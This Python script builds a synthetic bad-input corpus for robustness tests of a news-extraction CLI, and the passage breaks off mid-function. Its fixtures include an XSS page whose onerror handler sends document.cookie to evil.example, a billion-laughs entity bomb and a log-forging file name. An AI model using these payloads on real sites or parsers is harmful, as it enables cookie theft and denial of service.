"""Generate sitrep's bad-input corpus, and optionally measure ``sitrep extract``/``run`` on it.

Every input in :data:`KINDS` is written by a small function from synthetic text (nothing
is copied from real articles); the corpus is rebuilt, never committed. Big pages are
streamed to disk in 1 MB chunks::

    python scripts/make_bad_corpus.py OUT                   # the corpus of the unit tests
    python scripts/make_bad_corpus.py OUT --bench           # plus the slow ones (19 MB, 500 MB)
    python scripts/make_bad_corpus.py OUT --measure R.json --table R.md

Each :class:`Kind` says, by hand from what the input is, what ``sitrep extract`` may answer
and what ``sitrep run`` must record for it. ``--measure`` loads the pipeline once, then runs
the CLI on each input in a forked child (the model is not reloaded) and reads the child's
wall time, CPU time and peak resident memory from ``os.wait4``: the memory of a ``sitrep``
process handling that document, model included. Then one ``sitrep run`` over the corpus
tells what was stored, what was recorded as failed, and what was lost.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import logging
import os
import random
import signal
import sys
import time
import traceback
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

__all__ = ["Kind", "KINDS", "ARTICLE", "build", "measure", "measure_one", "summary", "table", "main"]

log = logging.getLogger(__name__)

MB = 1_000_000

#: The synthetic report most good kinds are made of (written for sitrep, with real place and group names).
HEADLINE = "Militants attack army checkpoint near Kunduz"
PARAGRAPHS = (
    "Taliban fighters attacked an army checkpoint on the outskirts of Kunduz late on Friday, killing at least "
    "four soldiers and injuring five more, the provincial governor's spokesman said on Saturday.",
    '"The attackers came from the east and fought for two hours before they withdrew," the spokesman told '
    "reporters. Residents said several houses near the checkpoint were damaged.",
    "A Taliban spokesman said on social media that 12 soldiers had been killed, a figure officials denied.",
)
ARTICLE = HEADLINE + "\n\n" + "\n\n".join(PARAGRAPHS) + "\n"
#: A sentence every good kind built from :data:`ARTICLE` keeps in its clean text.
KEPT = "killing at least four soldiers"


@dataclass(frozen=True)
class Kind:
    """One kind of bad input and what sitrep must do with it (written by hand, not observed).

    ``exits``: the exit codes ``sitrep extract`` may give (0 = a valid result).
    ``stored``/``failed``: at least this many documents stored / inputs recorded as failed
    by ``sitrep run`` (a single file gives exactly one of the two; containers may give more).
    ``stage``: the stage recorded with the failures. ``keep``/``drop``: strings the clean
    text must / must not contain when a result comes out. ``bench``: only with ``--bench``
    (too slow for the unit tests). ``run_bug``/``extract_bug``: a known sitrep bug this input
    hits, with its reason; the tests expect the failure (strict xfail) until it is fixed.
    """

    name: str
    about: str
    write: Callable[[Path], None]
    exits: tuple[int, ...]
    stored: int = 0
    failed: int = 0
    stage: Optional[str] = None
    published: Optional[str] = "2024-05-11"
    keep: tuple[str, ...] = ()
    drop: tuple[str, ...] = ()
    bench: bool = False
    run_bug: Optional[str] = None
    extract_bug: Optional[str] = None


# -- writers -----------------------------------------------------------------------------------
def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return lambda path: path.write_bytes(text.encode(encoding))


def _html(body: str, head: str = "<title>Militants attack army checkpoint near Kunduz</title>") -> str:
    return f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">{head}</head><body>{body}</body></html>\n"


def _article_html() -> str:
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    return f"<article><h1>{HEADLINE}</h1>{paragraphs}</article>"


def _streamed_page(size: int) -> Callable[[Path], None]:
    """An HTML page of ``size`` bytes or a little more, written in 1 MB chunks."""

    def write(path: Path) -> None:
        chunk = "".join(f"<p>{p}</p>\n" for p in PARAGRAPHS).encode()
        block = chunk * (MB // len(chunk) + 1)
        with path.open("wb") as fh:
            fh.write(b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Checkpoint</title></head><body>\n')
            written = 0
            while written < size:
                written += fh.write(block)
            fh.write(b"</body></html>\n")

    return write


PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + random.Random(3).randbytes(4000)


def _deep_nesting(levels: int) -> str:
    inner = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    return _html("<div>" * levels + inner + "</div>" * levels)


def _unclosed() -> str:
    # <p>, <div>, <b> and <a> never closed, a stray </table>, an attribute with no closing quote
    return (
        "<html><head><title>Militants attack army checkpoint near Kunduz<body><div class=\"story>"
        f"<p>{PARAGRAPHS[0]}<div><p><b>{PARAGRAPHS[1]}</table><p><a href=\"/x\">{PARAGRAPHS[2]}"
    )


def _latin1_in_utf8_page() -> bytes:
    # declared UTF-8, but the accented letters are single Latin-1 bytes
    body = f"<p>{PARAGRAPHS[0]}</p><p>A caf\xe9 owner in the old bazaar said the fighting lasted hours.</p>"
    return _html(body).encode("latin-1")


def _mixed_encodings() -> bytes:
    first = (HEADLINE + "\n\n" + PARAGRAPHS[0] + "\n\n").encode("utf-8")
    utf8 = "The café owner said the naïve recruits had fled.\n\n".encode("utf-8")
    cp1252 = "A second café owner said: \u201cthey left at dawn\u201d.\n\n".encode("cp1252")
    return first + utf8 + cp1252 + PARAGRAPHS[2].encode("utf-8")


def _sprinkled(text: str, chars: str, every: int) -> str:
    """``text`` with one of ``chars`` after every ``every``-th space."""
    words = text.split(" ")
    return " ".join(w + (chars[i % len(chars)] if i % every == every - 1 else "") for i, w in enumerate(words))


def _long_line(chars: int) -> str:
    sentence = "Residents said the fighting near the checkpoint lasted hours and several houses were damaged. "
    return HEADLINE + "\n\n" + PARAGRAPHS[0] + " " + sentence * (chars // len(sentence) + 1) + "\n"


def _big_text(size: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        para = ("\n\n".join(PARAGRAPHS) + "\n\n").encode()
        with path.open("wb") as fh:
            fh.write((HEADLINE + "\n\n").encode())
            for _ in range(size // len(para) + 1):
                fh.write(para)

    return write


def _only_table() -> str:
    rows = "".join(
        f"<tr><td>{place}</td><td>{day}</td><td>{killed}</td></tr>"
        for place, day, killed in (("Kunduz", "Friday", 4), ("Baghlan", "Saturday", 2), ("Takhar", "Sunday", 0))
    )
    return _html(f"<table><tr><th>Province</th><th>Day</th><th>Soldiers killed</th></tr>{rows}</table>")


ONLY_QUOTES = (
    '"We attacked the checkpoint because it blocked the road to the market," a Taliban commander said.\n\n'
    '"We lost four soldiers and seven more are in hospital," the governor\'s spokesman said.\n\n'
    '"We heard gunfire for two hours," one resident said. "Then it was quiet."\n'
)
ONLY_NUMBERS = "12 4 7 2024\n\n1,200 3.5 -17 0 99\n\n2024-05-10 10:30 +93 70 123 4567\n"
FUTURE = (
    "Army plans exercise near Kunduz\n\nThe defence ministry said on Friday that a joint exercise near Kunduz "
    "would take place on 3 March 2091 and again in 2150. It said that no soldiers had been killed in the "
    "planning, and that 40 soldiers were wounded in a clash near Kunduz on Thursday.\n"
)
OLD = (
    "Fighting near Kandahar\n\nTribal fighters attacked a garrison near Kandahar on Tuesday, killing 14 "
    "soldiers, the garrison commander said in a telegram on 4 January 1900.\n"
)
ABSURD = (
    "Claims of massive losses near Kunduz\n\nA Taliban statement claimed that 10,000,000,000 soldiers were "
    "killed near Kunduz on Friday. A second post said 99999999999999999999999 people were wounded and "
    "1,000,000,000,000 captured. Officials said four soldiers were killed.\n"
)
NUMBERS = (
    "Toll rises after clashes near Kunduz\n\n"
    "Officials said 1,200 people were displaced, 1.200 by another count, 1 200 by a third and 1'200 by a fourth. "
    "At least 12,00,000 people have fled the province since 2021, the agency said.\n\n"
    "Between 10 and 15 soldiers were killed, the army said; the Taliban said 10-15, a resident 10\u201315, "
    "a doctor 10 to 15 and a nurse ten to fifteen. Two or three civilians were wounded, and 20\u201325 "
    "others were missing. Some 30 fighters, nearly 40 police and more than 50 militants were captured, "
    "while dozens of others were arrested and up to 60 were abducted.\n"
)
PAYLOAD = _html(
    "<script>document.write('<p>INJECTED SCRIPT TEXT</p>'); alert('xss')</script>"
    "<style>p::after { content: 'INJECTED STYLE TEXT' }</style>"
    '<article><h1 onclick="alert(1)">Militants attack army checkpoint near Kunduz</h1>'
    f'<p onmouseover="alert(document.cookie)">{PARAGRAPHS[0]}</p>'
    f'<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)"><p>{PARAGRAPHS[1]}</p>'
    f'<a href="javascript:alert(2)">Read more</a><svg onload="alert(3)"><p>{PARAGRAPHS[2]}</p></svg>'
    "<iframe src=\"javascript:alert(4)\">INJECTED IFRAME TEXT</iframe></article>"
)
MIXED_SCRIPTS = (
    f"{HEADLINE}\n\n{PARAGRAPHS[0]}\n\nThe spokesman, Zabihullah (ذبیح الله), wrote on X: “موږ حمله کړی\u200f”. "
    "A Russian observer, Иван Петров, said the attack was expected. Greek aid workers (Ελληνες) and a Chinese "
    "team (中国队) left the city on Saturday.\n"
)
BIDI = (
    "Militants attack army checkpoint near Kunduz\n\n"
    "Taliban\u202e fighters\u202c attacked an army checkpoint near \u2067Kunduz\u2069 late on Friday, killing at "
    "least four\u200d soldiers, the governor's\u200f spokesman said.\u200e Residents\u2060 said several houses "
    "were damaged.\n"
)
ARABIC = (
    "هجوم على حاجز للجيش\n\nهاجم مسلحون حاجزا للجيش قرب المدينة مساء الجمعة، مما أسفر عن مقتل أربعة جنود، "
    "حسبما قال متحدث باسم الحاكم.\n"
)
FRENCH = (
    "Attaque contre un poste de l'armée\n\nDes combattants ont attaqué vendredi soir un poste de contrôle de "
    "l'armée près de la ville, tuant au moins quatre soldats, a déclaré le porte-parole du gouverneur. Selon "
    "les habitants, les combats ont duré deux heures et plusieurs maisons ont été endommagées.\n"
)
RUSSIAN = (
    "Нападение на армейский пост\n\nБоевики в пятницу вечером напали на армейский блокпост на окраине "
    "города, убив по меньшей мере четырёх военнослужащих, сообщил представитель губернатора. По словам "
    "жителей, бой продолжался два часа.\n"
)
CHINESE = _html(
    "<h1>武装分子袭击军队检查站</h1><p>武装分子周五晚间袭击了城市郊区的一个军队检查站，造成至少四名士兵死亡，"
    "七人受伤。省长发言人周六表示，袭击者从东面而来，交火持续了两个小时。</p>"
)
EMOJI = (
    "Militants attack army checkpoint near Kunduz \U0001f6a8\n\n"
    "\U0001f534 BREAKING: " + PARAGRAPHS[0] + " \U0001f622\U0001f1e6\U0001f1eb\n\n"
    "\U0001d413\U0001d41a\U0001d425\U0001d422\U0001d41b\U0001d41a\U0001d427 fighters \U0001f4a5 said on "
    "social media that 12 soldiers had been killed.\n"
)
BAD_ENTITIES = _html(
    f"<p>{PARAGRAPHS[0]} &#0; &#xD800; &#1114112; &#x110000; &bogus; &amp &#65;&#x42;</p>"
    f"<p>{PARAGRAPHS[1]}&#x1F4A5;&#55357;&#56613;</p>"
)
MARKDOWN = (
    f"# {HEADLINE}\n\n" + "".join("  " * i + f"- the item at level {i} of the list\n" for i in range(200))
    + f"\n{PARAGRAPHS[0]}\n\n[{'a' * 5000}](https://example.org/{'b' * 5000})\n\n{'| the ' * 500}|\n\n**{PARAGRAPHS[2]}**\n"
)


def _huge_attribute() -> str:
    image = "data:image/png;base64," + "iVBORw0KGgo" * 400_000  # ~4.4 MB of one attribute
    return _html(f'<img src="{image}" alt="map">' + _article_html())


def _warc_bytes(truncate: bool) -> bytes:
    """Three HTML responses and one image; with ``truncate``, the last record is cut short."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    pages = [
        ("https://news.example/kunduz", "text/html", _html(_article_html()).encode()),
        ("https://news.example/map.png", "image/png", PNG),
        ("https://news.example/baghlan", "text/html", _html(_article_html().replace("Kunduz", "Baghlan")).encode()),
        ("https://news.example/takhar", "text/html", _html(_article_html().replace("Kunduz", "Takhar")).encode()),
    ]
    for url, ctype, body in pages:
        headers = StatusAndHeaders("200 OK", [("Content-Type", ctype)], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers))
    data = buf.getvalue()
    return data[:-300] if truncate else data


def _feed(items: str, *, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{prolog}<rss version="2.0"><channel><title>Frontier Wire</title>'
        f"<link>https://wire.example/</link>{items}</channel></rss>\n"
    )


def _feed_item(guid: str, place: str, extra: str = "", title: str = "") -> str:
    body = "".join(f"<p>{p.replace('Kunduz', place)}</p>" for p in PARAGRAPHS)
    return (
        f"<item><guid>{guid}</guid><title>{title}Militants attack army checkpoint near {place}</title>"
        f"<link>https://wire.example/{guid}</link><pubDate>Sat, 11 May 2024 09:00:00 GMT</pubDate>"
        f"<description><![CDATA[{body}]]></description>{extra}</item>"
    )


# undefined entity, a raw "&", and a mismatched end tag: not well-formed XML, still readable
INVALID_FEED = _feed(
    _feed_item("a1", "Kunduz", "<category>News & Analysis &nbsp;</category>")
    + _feed_item("a2", "Baghlan", "<author>desk@wire.example</wrong>")
)
GARBAGE_FEED = "<<<rss>>> <channel <item> &&& </rss\x01\n" + "}{" * 200
# nine levels of ten: "&lol9;" would expand to a billion "lol"s (3 GB)
_LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10)).replace("&lol0;", "lol")
BILLION_LAUGHS = _feed(_feed_item("b1", "Kunduz", title="&lol9;"), prolog=f"<!DOCTYPE rss [\n{_LAUGHS}]>\n")
#: a numeric reference to a lone surrogate, which feedparser turns into the character
SURROGATE_FEED = _feed(_feed_item("s1", "Kunduz", title="&#xD800; ") + _feed_item("s2", "Baghlan"))
YEAR_ZERO_FEED = (
    '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Frontier Wire</title>'
    + "".join(
        f"<entry><id>{guid}</id><title>Militants attack army checkpoint near {place}</title>"
        f"<updated>{updated}</updated><content type=\"html\">&lt;p&gt;{PARAGRAPHS[0].replace('Kunduz', place)}"
        "&lt;/p&gt;</content></entry>"
        for guid, place, updated in (("z1", "Kunduz", "0000-01-01T00:00:00Z"), ("z2", "Baghlan", "2024-05-11T09:00:00Z"))
    )
    + "</feed>\n"
)
JSONL = "\n".join(
    (
        json.dumps({"url": "https://wire.example/j1", "text": ARTICLE, "published": "2024-05-11"}),
        '{"url": "https://wire.example/j2", "text": "unterminated',
        json.dumps({"url": "https://wire.example/j3", "body": ARTICLE}),
        json.dumps({"url": "https://wire.example/j4", "html": _html(""), "published": "2024-05-11"}),
        json.dumps(["not", "an", "object"]),
    )
) + "\n"
#: JSON may escape a lone surrogate ("\ud800"), which no UTF-8 encoder accepts
SURROGATE_JSONL = (
    json.dumps({"url": "https://wire.example/u1", "text": ARTICLE.replace("Kunduz", "Baghlan")}) + "\n"
    + json.dumps({"url": "https://wire.example/u2", "text": ARTICLE.replace("Militants", "Militants \ud800")}) + "\n"
)
#: soldiers, civilians and police each "a billion": each figure is under sitrep's cap, their sum is over 2**31
ABSURD_SUM = (
    "Claims of massive losses near Kunduz\n\nTaliban fighters attacked an army base near Kunduz on Friday. "
    "A Taliban statement claimed that 3,000,000,000 soldiers died in that raid near Kunduz. The "
    "statement also said 2,000,000,000 civilians and 2,000,000,000 police officers died too.\n"
)


def _gzip_no_extension(path: Path) -> None:
    path.write_bytes(gzip.compress(_html(_article_html()).encode(), mtime=0))


# -- the kinds ---------------------------------------------------------------------------------
_NOT_AN_ARTICLE = (0, 3, 10, 11, 13, 14, 15)  # a container given to `extract`: any clear answer
#: a file name that, printed raw, forges a second line on stderr and in `sitrep failures`
FORGED_NAME = "forged\nsitrep: all inputs stored.txt"

KINDS: tuple[Kind, ...] = (
    Kind("empty.txt", "a zero-byte file", _bytes(b""), (10,), failed=1, stage="ingest"),
    Kind("whitespace.txt", "spaces, tabs and line breaks only", _bytes(b" \n\t\r\n   \n\n"), (10,), failed=1, stage="ingest"),
    Kind("markup-only.html", "a page with tags but no text", _text(_html("<div><span></span></div><nav></nav>")), (10,), failed=1, stage="ingest"),
    Kind("comments-only.html", "a page whose only text is in comments", _text(_html("<!-- Taliban fighters raided an army post -->")), (10,), failed=1, stage="ingest"),
    Kind("report.pdf", "a PDF document", _bytes(PDF), (11,), failed=1, stage="ingest"),
    Kind("pdf-named.html", "a PDF document named .html", _bytes(PDF), (11,), failed=1, stage="ingest"),
    Kind("image-named.txt", "a PNG image named .txt", _bytes(PNG), (11,), failed=1, stage="ingest"),
    Kind("gzipped-page", "a gzip-compressed page without an extension", _gzip_no_extension, (11,), failed=1, stage="ingest"),
    Kind("random-bytes.txt", "4 KB of random bytes", _bytes(random.Random(7).randbytes(4096)), (11,), failed=1, stage="ingest"),
    Kind("nul-only.txt", "4 KB of NUL bytes", _bytes(bytes(4096)), (11,), failed=1, stage="ingest"),
    Kind("page-50mb.html", "a 50 MB page (over the 20 MB limit)", _streamed_page(50 * MB), (12,), failed=1, stage="ingest"),
    Kind("page-500mb.html", "a 500 MB page", _streamed_page(500 * MB), (12,), failed=1, stage="ingest", bench=True),
    Kind("page-19mb.html", "a 19 MB page, just under the byte limit", _streamed_page(19 * MB), (0, 12), stored=1, bench=True),
    Kind("text-19mb.txt", "19 MB of plain text, over the text limit", _big_text(19 * MB), (12,), failed=1, stage="ingest", bench=True),
    Kind("page-2mb.html", "a 2 MB page of repeated paragraphs", _streamed_page(2 * MB), (0, 12), stored=1),
    Kind("text-3mb.txt", "3 MB of plain text, over the text limit", _big_text(3 * MB), (12,), failed=1, stage="ingest"),
    Kind("long-line-2mb.txt", "one 2 MB line", _text(_long_line(2 * MB)), (12,), failed=1, stage="ingest"),
    Kind("long-line-60k.txt", "one 60,000-character line", _text(_long_line(60_000)), (0,), stored=1, keep=(KEPT,)),
    Kind("deep-nesting.html", "10,000 levels of nested <div>", _text(_deep_nesting(10_000)), (0,), stored=1, keep=(KEPT,)),
    Kind("unclosed-tags.html", "unclosed tags and an unterminated attribute", _text(_unclosed()), (0,), stored=1, keep=("at least four soldiers",)),
    Kind("latin1-declared-utf8.html", "declared UTF-8, Latin-1 bytes", _bytes(_latin1_in_utf8_page()), (0,), stored=1, keep=(KEPT, "café owner")),
    Kind("utf16le-no-bom.txt", "UTF-16-LE without a byte-order mark", _text(ARTICLE, "utf-16-le"), (0,), stored=1, keep=(KEPT,)),
    Kind("utf16be-no-bom.txt", "UTF-16-BE without a byte-order mark", _text(ARTICLE, "utf-16-be"), (0,), stored=1, keep=(KEPT,)),
    Kind("utf16-bom-broken.txt", "a UTF-16 BOM, then a lone surrogate", _bytes(b"\xff\xfe" + ARTICLE.encode("utf-16-le") + b"\x00\xd8A\x00"), (13,), failed=1, stage="ingest"),
    Kind("mixed-encodings.txt", "UTF-8 and cp1252 paragraphs in one file", _bytes(_mixed_encodings()), (0,), stored=1, keep=(KEPT, "naïve recruits", "café owner said: \u201cthey left")),
    Kind("koi8r-undeclared.txt", "Russian in KOI8-R, no charset declared", _text(RUSSIAN, "koi8_r"), (13, 15), failed=1, stage="ingest"),
    Kind("nul-bytes.txt", "an article with NUL bytes between words", _text(_sprinkled(ARTICLE, "\x00", 6)), (0,), stored=1, keep=("Taliban fighters",), drop=("\x00",)),
    Kind("control-chars.txt", "BEL, ESC, VT, FF, DEL and C1 controls", _text(_sprinkled(ARTICLE, "\x07\x1b\x0b\x0c\x7f\x85\x9b", 5)), (0,), stored=1, drop=("\x07", "\x1b", "\x7f", "\x9b")),
    Kind("bidi-controls.txt", "right-to-left overrides and zero-width characters", _text(BIDI), (0,), stored=1, keep=("Taliban",)),
    Kind("mixed-scripts.txt", "English with Arabic, Pashto, Cyrillic, Greek and Han names", _text(MIXED_SCRIPTS), (0,), stored=1, keep=(KEPT, "\u0418\u0432\u0430\u043d")),
    Kind("arabic-rtl.txt", "an Arabic article", _text(ARABIC), (15,), failed=1, stage="language"),
    Kind("french.txt", "a French article", _text(FRENCH), (15,), failed=1, stage="language"),
    Kind("russian.txt", "a Russian article", _text(RUSSIAN), (15,), failed=1, stage="language"),
    Kind("chinese.html", "a Chinese page", _text(CHINESE), (15,), failed=1, stage="language"),
    Kind("emoji.txt", "emoji, flags and mathematical letters (astral plane)", _text(EMOJI), (0,), stored=1, keep=(KEPT,)),
    # a bare table has hardly any English function words: refusing it as "not English" is a clear answer too
    Kind("only-table.html", "an article that is only a table", _text(_only_table()), (0, 10, 15)),
    Kind("only-quotes.txt", "an article that is only quotes", _text(ONLY_QUOTES), (0,), stored=1, keep=("We heard gunfire",)),
    Kind("only-numbers.txt", "an article that is only numbers", _text(ONLY_NUMBERS), (10, 15), failed=1),
    Kind("future-dates.txt", "dates in 2091 and 2150", _text(FUTURE), (0,), stored=1, keep=("3 March 2091",)),
    Kind("year-1900.txt", "a report published in 1900", _text(OLD), (0,), stored=1, published="1900-01-05", keep=("14 soldiers",)),
    Kind("absurd-casualties.txt", "10,000,000,000 killed and a 23-digit figure", _text(ABSURD), (0,), stored=1, keep=("10,000,000,000",)),
    Kind("absurd-sum.txt", "three groups of a billion killed each", _text(ABSURD_SUM), (0,), stored=1),
    Kind("number-styles.txt", "thousands separators and ranges in every style", _text(NUMBERS), (0,), stored=1, keep=("12,00,000",)),
    Kind("script-payload.html", "<script>, event handlers and javascript: URLs", _text(PAYLOAD), (0,), stored=1, keep=(KEPT,),
         drop=("INJECTED", "alert(", "onerror", "onmouseover", "javascript:", "<script", "document.cookie")),
    Kind("bad-entities.html", "NUL, surrogate and out-of-range character references", _text(BAD_ENTITIES), (0,), stored=1, keep=(KEPT,)),
    Kind("huge-attribute.html", "a 4 MB inline data: image", _text(_huge_attribute()), (0,), stored=1, keep=(KEPT,), drop=("iVBORw0KGgo",)),
    Kind("nested-markdown.md", "200 nested list levels, a 10 KB link, a 500-cell table row", _text(MARKDOWN), (0,), stored=1, keep=(KEPT,)),
    Kind("cr-line-ends.txt", "old Mac line ends (CR only)", _text(ARTICLE.replace("\n", "\r")), (0,), stored=1, keep=(KEPT,)),
    Kind(FORGED_NAME, "an empty file whose name holds a newline", _bytes(b""), (10,), failed=1, stage="ingest"),
    Kind("truncated.warc.gz", "a WARC whose last record is cut short", _bytes(_warc_bytes(True)), _NOT_AN_ARTICLE, stored=2, failed=2, stage="ingest"),
    Kind("not-a-warc.warc", "a text file named .warc", _text(ARTICLE), _NOT_AN_ARTICLE, failed=1, stage="ingest"),
    Kind("invalid-xml.rss", "a feed that is not well-formed XML", _text(INVALID_FEED), _NOT_AN_ARTICLE, stored=2),
    Kind("garbage-feed.xml", "a feed that is not XML at all", _text(GARBAGE_FEED), _NOT_AN_ARTICLE, failed=1, stage="ingest"),
    Kind("billion-laughs.rss", "a feed with an entity-expansion bomb", _text(BILLION_LAUGHS), _NOT_AN_ARTICLE, drop=("lollollol",)),
    Kind("surrogate-ref.rss", "a feed with a character reference to a lone surrogate", _text(SURROGATE_FEED), _NOT_AN_ARTICLE, stored=1),
    Kind("year-zero.atom", "an Atom feed with an entry updated in year 0", _text(YEAR_ZERO_FEED), _NOT_AN_ARTICLE, stored=1),
    Kind("broken-lines.jsonl", "JSON Lines: good, cut short, no text, empty page, not an object", _text(JSONL), _NOT_AN_ARTICLE, stored=1, failed=4, stage="ingest"),
    Kind("lone-surrogate.jsonl", "JSON Lines with an escaped lone surrogate", _text(SURROGATE_JSONL, "utf-8"), _NOT_AN_ARTICLE, stored=1),
)


def build(out: str | Path, *, bench: bool = False, only: Optional[set[str]] = None) -> list[Kind]:
    """Write the corpus into ``out``; ``bench`` adds the slow inputs. Returns the kinds written."""
    folder = Path(out)
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for kind in KINDS:
        if (kind.bench and not bench) or (only is not None and kind.name not in only):
            continue
        kind.write(folder / kind.name)
        written.append(kind)
    log.info("wrote %d inputs to %s", len(written), folder)
    return written


# -- measuring `sitrep extract` ----------------------------------------------------------------
def _child(args: list[str], stdout: Path, stderr: Path) -> None:
    """In the forked child: the CLI with its streams sent to files, then leave with its code."""
    code = 1
    with stdout.open("wb") as out, stderr.open("wb") as err:
        os.dup2(out.fileno(), 1)
        os.dup2(err.fileno(), 2)
        sys.stdout = io.TextIOWrapper(os.fdopen(1, "wb", closefd=False), encoding="utf-8", line_buffering=True)
        sys.stderr = io.TextIOWrapper(os.fdopen(2, "wb", closefd=False), encoding="utf-8", line_buffering=True)
        from sitrep.cli import app

        try:
            app(args=args, prog_name="sitrep")
            code = 0
        except SystemExit as exit_:
            code = exit_.code if isinstance(exit_.code, int) else 1
        except BaseException:  # an unhandled error is exactly what the corpus hunts for: show it
            traceback.print_exc()
        sys.stdout.flush()
        sys.stderr.flush()
    os._exit(code)


def _wait(pid: int, timeout: float) -> tuple[Optional[int], object, bool]:
    """``(exit code, rusage, timed out)`` of child ``pid``, killed after ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    while True:
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            return (os.waitstatus_to_exitcode(status), usage, False)
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
            _, status, usage = os.wait4(pid, 0)
            return (None, usage, True)
        time.sleep(0.02)


def _forked(args: list[str], stdout: Path, stderr: Path, timeout: float) -> dict:
    """The CLI with ``args`` in a forked child of this (pre-loaded) process: exit, time, memory."""
    sys.stdout.flush()
    sys.stderr.flush()
    started = time.perf_counter()
    pid = os.fork()
    if pid == 0:
        _child(args, stdout, stderr)
    code, usage, timed_out = _wait(pid, timeout)
    return {
        "exit": code,
        "timed_out": timed_out,
        "seconds": round(time.perf_counter() - started, 3),
        "cpu_seconds": round(usage.ru_utime + usage.ru_stime, 3),
        "max_rss_mb": round(usage.ru_maxrss / 1024, 1),  # Linux reports KiB
        "stdout": str(stdout),
        "stderr": str(stderr),
    }


def measure_one(path: Path, *, published: Optional[str], logs: Path, timeout: float) -> dict:
    """``sitrep extract PATH`` in a forked child: its exit code, output files, time and peak memory."""
    args = ["extract", str(path)] + (["--published", published] if published else [])
    row = {"name": path.name, **_forked(args, logs / f"{path.name}.out", logs / f"{path.name}.err", timeout)}
    row["message"] = Path(row["stderr"]).read_text(encoding="utf-8", errors="replace")[:300]
    return row


def _preload() -> float:
    """Import the CLI and load the pipeline here, once: forked children inherit both."""
    started = time.perf_counter()
    import sitrep.cli  # noqa: F401
    import sitrep.pipeline  # noqa: F401
    import sitrep.runner  # noqa: F401
    import sitrep.store  # noqa: F401
    from sitrep.nlp import load_pipeline
    from sitrep.options import load_options

    load_pipeline(load_options().nlp.model)
    return time.perf_counter() - started


def measure(folder: str | Path, kinds: list[Kind], *, timeout: float = 60.0) -> dict:
    """Measure ``sitrep extract`` on every input of ``kinds`` under ``folder``, then ``sitrep run``."""
    folder = Path(folder)
    logs = folder.parent / (folder.name + "-logs")
    logs.mkdir(exist_ok=True)
    load = _preload()
    rows = [measure_one(folder / k.name, published=k.published, logs=logs, timeout=timeout) for k in kinds]
    runs = {"corpus": _measure_run([k for k in kinds if not k.run_bug], folder, logs, "corpus", timeout * len(kinds))}
    runs.update({k.name: _measure_run([k], folder, logs, f"bug-{len(runs)}", timeout) for k in kinds if k.run_bug})
    return {"model_load_seconds": round(load, 2), "timeout_seconds": timeout, "inputs": rows,
            "runs": runs}  # fmt: skip


def _measure_run(kinds: list[Kind], folder: Path, logs: Path, name: str, timeout: float) -> dict:
    """``sitrep run`` over ``kinds`` in a forked child; per kind, the rows the store holds for it."""
    from sitrep.store import Store

    db = logs / f"{name}.duckdb"
    args = ["run", *(str(folder / k.name) for k in kinds), "--db", str(db), "--batch-size", "8"]
    run = _forked(args, logs / f"{name}.run.out", logs / f"{name}.run.err", timeout)
    per_kind = {}
    with Store.open(db, read_only=True) as store:
        stored = [row[0] for row in store.table("inputs", exclude=("doc_id", "run_id"))]
        failed = [(f.input, f.stage) for f in store.failures()]
    for kind in kinds:
        path = str((folder / kind.name).resolve())
        mine = lambda input: input == path or input.startswith(path + "#")  # noqa: E731  (WARC/feed/JSONL items)
        per_kind[kind.name] = {"stored": sum(map(mine, stored)), "failed": sum(mine(i) for i, _ in failed),
                               "stages": sorted({s for i, s in failed if mine(i)})}  # fmt: skip
    return {**run, "kinds": per_kind}


#: every exit code sitrep gives on purpose (sitrep.errors); anything else is a crash
_EXIT_CODES = {0, 1, 2, 3, 4, 5, 6, 7, 10, 11, 12, 13, 14, 15}


def summary(result: dict) -> dict:
    """Inputs tried, crashes, documents lost, and the worst time and memory per document."""
    inputs, runs = result["inputs"], result["runs"]
    crashed = [r["name"] for r in inputs if r["timed_out"] or r["exit"] not in _EXIT_CODES or _traceback(r["stderr"])]
    crashed += [f"run: {name}" for name, run in runs.items() if run["exit"] != 0 or _traceback(run["stderr"])]
    lost = [k for run in runs.values() for k, got in run["kinds"].items() if got["stored"] + got["failed"] == 0]
    return {
        "inputs": len(inputs),
        "crashes": len(crashed),
        "crashed": crashed,
        "documents_lost": len(lost),
        "lost": lost,
        "max_seconds": max(r["seconds"] for r in inputs),
        "max_cpu_seconds": max(r["cpu_seconds"] for r in inputs),
        "max_rss_mb": max(r["max_rss_mb"] for r in inputs),
    }


def _traceback(path: str) -> bool:
    return "Traceback (most recent call last)" in Path(path).read_text(encoding="utf-8", errors="replace")


def table(result: dict, kinds: list[Kind]) -> str:
    """Markdown: the totals, then one row per input."""
    total, about = result["summary"], {k.name: k for k in kinds}
    run = result["runs"]["corpus"]
    lines = [
        "# Robustness: the bad-input corpus",
        "",
        f"`python scripts/make_bad_corpus.py DIR --bench --measure R.json --table R.md`. Each input: `sitrep extract` in a "
        "forked child of a process that loaded the model once (CPU time and peak RSS of the child from `os.wait4`; the "
        f"RSS includes the model). Model load: {result['model_load_seconds']} s, not counted per document. "
